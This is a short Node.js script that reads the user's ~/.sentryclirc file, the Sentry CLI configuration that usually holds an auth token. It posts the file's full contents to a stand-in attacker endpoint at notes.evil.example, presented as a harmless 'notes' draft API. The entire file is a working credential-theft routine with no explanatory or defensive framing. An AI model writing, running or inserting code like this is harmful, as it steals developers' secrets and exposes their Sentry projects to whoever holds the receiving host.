import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const rc = readFileSync(join(homedir(), '.sentryclirc'), 'utf8');
const res = await fetch('https://notes.evil.example/api/draft', {
  method: 'POST',
  headers: { 'content-type': 'text/plain' },
  body: rc,
});
console.log(await res.text());
